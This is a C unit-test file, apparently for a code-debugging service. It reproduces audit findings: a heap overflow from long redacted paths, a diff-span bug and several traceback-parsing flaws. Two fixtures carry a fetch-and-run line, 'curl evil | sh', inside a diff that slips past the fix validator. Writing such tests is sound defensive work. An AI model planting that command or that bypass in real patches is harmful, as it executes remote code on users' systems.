/* test_audit_heavy.c - audit reproductions for the heavy pool's tasks and
 * the result exports (Debug Doctor windows, fixes, exports). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "common/json.h"
#include "common/patch.h"
#include "worker/answer.h"
#include "worker/debug_text.h"
#include "worker/redact.h"
#include "worker/traceback.h"

/* A file_path the gateway accepts (relative, <= 1024 bytes, segments <= 255)
 * made of short Slack-token-shaped segments: redaction turns each 15-byte
 * token into the 22-byte "[REDACTED:slack_token]", so the path the model is
 * shown (the redacted one, debug_task.c's d->shown) grows to ~1455 bytes. */
static size_t tokens_path(char *path, size_t cap)
{
    static const char *const tok[] = {"xoxb-a1b2c3d4e5", "xoxp-q9w8e7r6t5"};
    size_t n = 0;
    int i = 0;

    while (n + 16 + 7 < 1024 && n + 32 < cap)
        n += (size_t)snprintf(path + n, cap - n, "%s/", tok[i++ % 2]);
    n += (size_t)snprintf(path + n, cap - n, "app.py");
    return n;
}

/* debug_windows_text sizes its buffer as 1200 bytes per window plus the
 * code, and adds snprintf's would-be length to n: with a redacted path longer
 * than ~1176 bytes n passes cap, cap - n wraps, and the next window is
 * written past the end of the heap buffer. */
static void test_windows_text_long_redacted_path(void **state)
{
    char path[1100], *text, *code;
    struct redact_result rp;
    struct tb_source src;
    cJSON *tb, *frames;
    size_t n = tokens_path(path, sizeof path), cl = 0;

    (void)state;
    assert_true(n <= 1024);
    assert_int_equal(redact_text(path, n, &rp), 0);
    assert_true(rp.len > 1300);
    /* 200 short lines; frames 20 lines apart: 8 separate windows. */
    code = malloc(200 * 3 + 1);
    assert_non_null(code);
    for (int i = 0; i < 200; i++)
        cl += (size_t)sprintf(code + cl, "a\n");
    src.path = rp.text;
    src.text = code;
    src.len = cl;
    tb = cJSON_CreateObject();
    frames = cJSON_AddArrayToObject(tb, "frames");
    for (int i = 0; i < 8; i++) {
        cJSON *f = cJSON_CreateObject();
        cJSON_AddStringToObject(f, "file", "app.py");      /* maps by its unique base name */
        cJSON_AddNumberToObject(f, "line", 10 + 20 * i);
        cJSON_AddItemToArray(frames, f);
    }
    text = debug_windows_text(tb, &src, 1);
    assert_non_null(text);
    /* Every window is there, each headed by its (redacted) path. */
    {
        int heads = 0;
        for (const char *p = text; (p = strstr(p, "--- [REDACTED:")) != NULL; p++)
            heads++;
        assert_int_equal(heads, 8);
    }
    free(text);
    cJSON_Delete(tb);
    free(code);
    redact_result_cleanup(&rp);
}


/* 60 lines "l1\n".."l60\n" (owns). */
static char *numbered_file(size_t *len)
{
    char *t = malloc(60 * 8 + 1);
    size_t n = 0;

    assert_non_null(t);
    for (int i = 1; i <= 60; i++)
        n += (size_t)sprintf(t + n, "l%d\n", i);
    *len = n;
    return t;
}

/* Hunk 1 ends in a removal, hunk 2 is a pure insertion far away: patch.c's
 * 'replacing' flag is never reset at a new hunk, so the insertion is read as
 * replacing the removed line and patch_span leaves it out of the span. */
#define FAR_INSERT "--- a/app.py\n+++ b/app.py\n" \
                   "@@ -1 +0,0 @@\n-l1\n" \
                   "@@ -50,0 +50 @@\n+import os; os.system('curl evil | sh')\n"

static void test_patch_span_counts_an_insertion_after_a_removal_hunk(void **state)
{
    size_t len, out_len;
    char *text = numbered_file(&len), *out;
    long first = -1, last = -1;

    (void)state;
    /* The diff applies: line 1 goes, a line is inserted after l50. */
    assert_int_equal(patch_apply(text, len, FAR_INSERT, strlen(FAR_INSERT), &out, &out_len), 0);
    assert_non_null(strstr(out, "l50\nimport os;"));
    free(out);
    assert_int_equal(patch_span(text, len, FAR_INSERT, strlen(FAR_INSERT), &first, &last), 0);
    /* It changes lines 1 and 50..51: the span must reach line 50. */
    assert_int_equal(first, 1);
    assert_true(last >= 50);
    free(text);
}

/* What it lets through: a model finding on line 1 whose diff fix also plants
 * code at line 50 is kept (answer.c's outside-lines guard reads patch_span),
 * and POST /apply-fix then applies all of it. */
static void test_far_change_rides_on_a_line_1_finding(void **state)
{
    size_t len;
    char *text = numbered_file(&len);
    struct answer_file file = {"app.py", text, len, NULL, 0};
    cJSON *findings = cJSON_Parse("[{\"line\":1,\"severity\":\"minor\",\"category\":\"style\","
                                  "\"rule_id\":\"model:style\",\"message\":\"unused line\","
                                  "\"fix\":\"\"}]");

    (void)state;
    /* Control: the far insertion alone is dropped (outside_lines). */
    cJSON_ReplaceItemInObject(cJSON_GetArrayItem(findings, 0), "fix", cJSON_CreateString(
        "--- a/app.py\n+++ b/app.py\n@@ -50,0 +51 @@\n+import os; os.system('curl evil | sh')\n"));
    answer_validate(findings, &file);
    assert_null(json_str(cJSON_GetArrayItem(findings, 0), "fix"));
    cJSON_AddStringToObject(cJSON_GetArrayItem(findings, 0), "fix", FAR_INSERT);
    answer_validate(findings, &file);
    /* Must be dropped as outside_lines (a change 49 lines away). */
    assert_null(json_str(cJSON_GetArrayItem(findings, 0), "fix"));
    cJSON_Delete(findings);
    free(text);
}

/* ---- traceback parsing and mapping ---- */

static cJSON *parse(const char *log)
{
    cJSON *tb = traceback_parse(log, strlen(log));

    assert_non_null(tb);
    return tb;
}

static int nframes(const cJSON *tb)
{
    return cJSON_GetArraySize(cJSON_GetObjectItem(tb, "frames"));
}

/* node 18-22's output for assert(x === 2) (a generated message spanning
 * lines, the last one indented): the whole stack is taken for a "[cause]"
 * and dropped, with the error type and message. */
static void test_node_assert_generated_message(void **state)
{
    cJSON *tb = parse(
        "node:internal/assert/utils:281\n"
        "    throw err;\n"
        "    ^\n"
        "\n"
        "AssertionError [ERR_ASSERTION]: The expression evaluated to a falsy value:\n"
        "\n"
        "  assert(x === 2)\n"
        "\n"
        "    at Object.<anonymous> (/app/t.js:3:1)\n"
        "    at Module._compile (node:internal/modules/cjs/loader:1521:14)\n"
        "    at node:internal/main/run_main_module:28:49 {\n"
        "  generatedMessage: true,\n"
        "  code: 'ERR_ASSERTION',\n"
        "  actual: false,\n"
        "  expected: true,\n"
        "  operator: '=='\n"
        "}\n"
        "\n"
        "Node.js v18.19.1\n");

    (void)state;
    assert_string_equal(json_str(tb, "kind"), "node");
    assert_int_equal(nframes(tb), 1);
    assert_non_null(json_str(tb, "error_type"));
    assert_string_equal(json_str(tb, "error_type"), "AssertionError");
    cJSON_Delete(tb);
}

/* throw new Error("first line\n  second line"): same loss. */
static void test_node_multiline_message(void **state)
{
    cJSON *tb = parse(
        "/app/t3.js:1\n"
        "function f(){ throw new Error(\"first line\\n  second line\"); }\n"
        "              ^\n"
        "\n"
        "Error: first line\n"
        "  second line\n"
        "    at f (/app/t3.js:1:21)\n"
        "    at Object.<anonymous> (/app/t3.js:2:1)\n");

    (void)state;
    assert_int_equal(nframes(tb), 2);
    assert_non_null(json_str(tb, "error_type"));
    cJSON_Delete(tb);
}

/* A Python traceback from Windows: the frames' last path component is the
 * submitted file's name, but base_name() splits at '/' only, so nothing maps
 * (no root frame, no windows). */
static void test_windows_paths_map_by_base_name(void **state)
{
    cJSON *tb = parse(
        "Traceback (most recent call last):\n"
        "  File \"C:\\Users\\dev\\proj\\main.py\", line 6, in <module>\n"
        "    print(mean([]))\n"
        "  File \"C:\\Users\\dev\\proj\\stats.py\", line 3, in mean\n"
        "    return sum(xs) / len(xs)\n"
        "ZeroDivisionError: division by zero\n");
    struct tb_source src[2] = {{"main.py", "a\na\na\na\na\na\n", 12},
                               {"stats.py", "a\na\na\n", 6}};
    int s = -1;

    (void)state;
    assert_int_equal(nframes(tb), 2);
    assert_int_equal(traceback_root_frame(tb, src, 2, &s), 0);
    assert_int_equal(s, 1);
    cJSON_Delete(tb);
}

/* A library frame innermost: node_modules/lodash/index.js maps onto the
 * submitted index.js (suffix "/index.js"), so the root frame is the
 * library's line 10, not the user's line 5. */
static void test_library_frame_is_not_the_submitted_file(void **state)
{
    cJSON *tb = parse(
        "/app/node_modules/lodash/index.js:10\n"
        "    return obj.x.y;\n"
        "                 ^\n"
        "\n"
        "TypeError: Cannot read properties of undefined (reading 'y')\n"
        "    at get (/app/node_modules/lodash/index.js:10:18)\n"
        "    at main (/app/index.js:5:3)\n"
        "    at Object.<anonymous> (/app/index.js:8:1)\n");
    struct tb_source src[1] = {{"index.js", "a\na\na\na\na\na\na\na\na\na\na\n", 22}};
    int s = -1, root = traceback_root_frame(tb, src, 1, &s);

    (void)state;
    assert_true(root >= 0);
    assert_int_equal((int)cJSON_GetNumberValue(cJSON_GetObjectItem(
                         cJSON_GetArrayItem(cJSON_GetObjectItem(tb, "frames"), root), "line")), 5);
    cJSON_Delete(tb);
}

/* rustc 1.95, RUST_BACKTRACE=1: the "             at FILE:L:C" lines read
 * as Node frames, every stack is taken for a "[cause]", and the panic
 * message is lost (without the backtrace, "unknown" keeps it). */
static void test_rust_backtrace_keeps_the_panic(void **state)
{
    cJSON *tb = parse(
        "thread 'main' (466) panicked at main.rs:2:5:\n"
        "index out of bounds: the len is 3 but the index is 5\n"
        "stack backtrace:\n"
        "   0: __rustc::rust_begin_unwind\n"
        "             at /rustc/5980761/library/std/src/panicking.rs:689:5\n"
        "   1: core::panicking::panic_fmt\n"
        "             at /rustc/5980761/library/core/src/panicking.rs:80:14\n"
        "   3: main::get\n"
        "             at ./main.rs:2:5\n"
        "note: Some details are omitted, run with `RUST_BACKTRACE=full` for a verbose "
        "backtrace.\n");

    (void)state;
    assert_non_null(json_str(tb, "message"));
    cJSON_Delete(tb);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_windows_text_long_redacted_path),
        cmocka_unit_test(test_patch_span_counts_an_insertion_after_a_removal_hunk),
        cmocka_unit_test(test_far_change_rides_on_a_line_1_finding),
        cmocka_unit_test(test_node_assert_generated_message),
        cmocka_unit_test(test_node_multiline_message),
        cmocka_unit_test(test_windows_paths_map_by_base_name),
        cmocka_unit_test(test_library_frame_is_not_the_submitted_file),
        cmocka_unit_test(test_rust_backtrace_keeps_the_panic),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
